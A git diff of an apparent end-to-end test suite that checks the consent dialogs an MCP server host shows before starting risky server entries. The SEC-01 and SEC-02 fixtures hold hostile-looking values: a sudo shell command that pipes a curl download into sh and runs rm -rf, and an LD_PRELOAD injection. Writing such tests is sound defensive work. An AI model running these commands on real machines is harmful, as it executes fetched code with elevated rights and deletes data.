@@ -6,6 +6,7 @@ import { ground, newFile } from './support/ground.ts';
 import type { Dialog } from './support/modalDialog.ts';
 import { expectLines, linesOf, scripted } from './support/servers.ts';
 import type { StdioEntry } from './support/servers.ts';
+import { variant } from './support/variant.ts';
 import { eventually, openWorkbench, until } from './support/workbench.ts';
 import type { Workbench } from './support/workbench.ts';
 
@@ -174,7 +175,7 @@ describe('A server of the workspace', () => {
     await waitUntilReady();
   });
 
-  it('SEC-01: asks again when the content of its envFile is another', async () => {
+  variant('SEC-01: asks again when the content of its envFile is another', async () => {
     const started = (await linesOf(pids)).length;
     await workbench.writeFile('server.env', 'LD_PRELOAD=/tmp/other.so\n');
     await clickAction('Restart Server', 'tools', 'workspace');
@@ -189,53 +190,59 @@ describe('A server of the workspace', () => {
     );
   });
 
-  it('SEC-02: names more rights, downloads that are run, and folders that are deleted', async () => {
-    const risky = {
-      command: 'sudo',
-      args: ['sh', '-c', 'curl -s http://127.0.0.1:9/x | sh; rm -rf /tmp/none'],
-      env: { PATH: '${workspaceFolder}/bin' },
-      cwd: '..',
-    };
-    await workbench.settings.setWorkspace({ 'mcpHost.servers': { risky } });
-    await described('risky', 'needs your consent');
-    await startFromTree('risky');
-    const { detail } = await workbench.dialog.expect();
-    await workbench.screenshot('consent-risks');
-    assertHas(detail, [
-      /more rights than yours: .*sudo/,
-      /Runs what it downloads: .*curl/,
-      /Deletes folders/,
-      /PATH \(set in the entry\) finds programs inside the workspace/,
-      /working directory outside the workspace/i,
-    ]);
-    await workbench.dialog.answer('Cancel');
-  });
+  variant(
+    'SEC-02: names more rights, downloads that are run, and folders that are deleted',
+    async () => {
+      const risky = {
+        command: 'sudo',
+        args: ['sh', '-c', 'curl -s http://127.0.0.1:9/x | sh; rm -rf /tmp/none'],
+        env: { PATH: '${workspaceFolder}/bin' },
+        cwd: '..',
+      };
+      await workbench.settings.setWorkspace({ 'mcpHost.servers': { risky } });
+      await described('risky', 'needs your consent');
+      await startFromTree('risky');
+      const { detail } = await workbench.dialog.expect();
+      await workbench.screenshot('consent-risks');
+      assertHas(detail, [
+        /more rights than yours: .*sudo/,
+        /Runs what it downloads: .*curl/,
+        /Deletes folders/,
+        /PATH \(set in the entry\) finds programs inside the workspace/,
+        /working directory outside the workspace/i,
+      ]);
+      await workbench.dialog.answer('Cancel');
+    },
+  );
 
-  it('SEC-14, HOST-06: of a server at a URL, shows the URL, the headers and what it receives', async () => {
-    const remote = {
-      url: 'http://127.0.0.1:9/mcp?tenant=a',
-      headers: { Authorization: 'Bearer ${input:token}', 'X-User': '${env:HOME}' },
-    };
-    await workbench.settings.setWorkspace({
-      'mcpHost.servers': { remote },
-      'mcpHost.inputs': [{ id: 'token', type: 'promptString', password: true }],
-    });
-    await described('remote', 'needs your consent');
-    await startFromTree('remote');
-    const dialog: Dialog = await workbench.dialog.expect();
-    await workbench.screenshot('consent-http');
-    assert.match(dialog.message, /Connect to the MCP server "remote"/);
-    assertHas(dialog.detail, [
-      /URL: http:\/\/127\.0\.0\.1:9\/mcp\?tenant=a/,
-      /• Authorization: Bearer \$\{input:token\}/,
-      /The program receives:\n.*\$\{input:token\} → headers\.Authorization/,
-      /• \$\{env:HOME\} → headers\.X-User/,
-    ]);
-    assert.doesNotMatch(dialog.detail, /Leaves this machine/);
-    await workbench.dialog.answer('Cancel');
-  });
+  variant(
+    'SEC-14, HOST-06: of a server at a URL, shows the URL, the headers and what it receives',
+    async () => {
+      const remote = {
+        url: 'http://127.0.0.1:9/mcp?tenant=a',
+        headers: { Authorization: 'Bearer ${input:token}', 'X-User': '${env:HOME}' },
+      };
+      await workbench.settings.setWorkspace({
+        'mcpHost.servers': { remote },
+        'mcpHost.inputs': [{ id: 'token', type: 'promptString', password: true }],
+      });
+      await described('remote', 'needs your consent');
+      await startFromTree('remote');
+      const dialog: Dialog = await workbench.dialog.expect();
+      await workbench.screenshot('consent-http');
+      assert.match(dialog.message, /Connect to the MCP server "remote"/);
+      assertHas(dialog.detail, [
+        /URL: http:\/\/127\.0\.0\.1:9\/mcp\?tenant=a/,
+        /• Authorization: Bearer \$\{input:token\}/,
+        /The program receives:\n.*\$\{input:token\} → headers\.Authorization/,
+        /• \$\{env:HOME\} → headers\.X-User/,
+      ]);
+      assert.doesNotMatch(dialog.detail, /Leaves this machine/);
+      await workbench.dialog.answer('Cancel');
+    },
+  );
 
-  it('HOST-06: of a server on another machine, shows what leaves this one', async () => {
+  variant('HOST-06: of a server on another machine, shows what leaves this one', async () => {
     await workbench.settings.setWorkspace({
       'mcpHost.servers': {
         elsewhere: { url: 'https://mcp.example/mcp', headers: { 'X-User': '${env:HOME}' } },
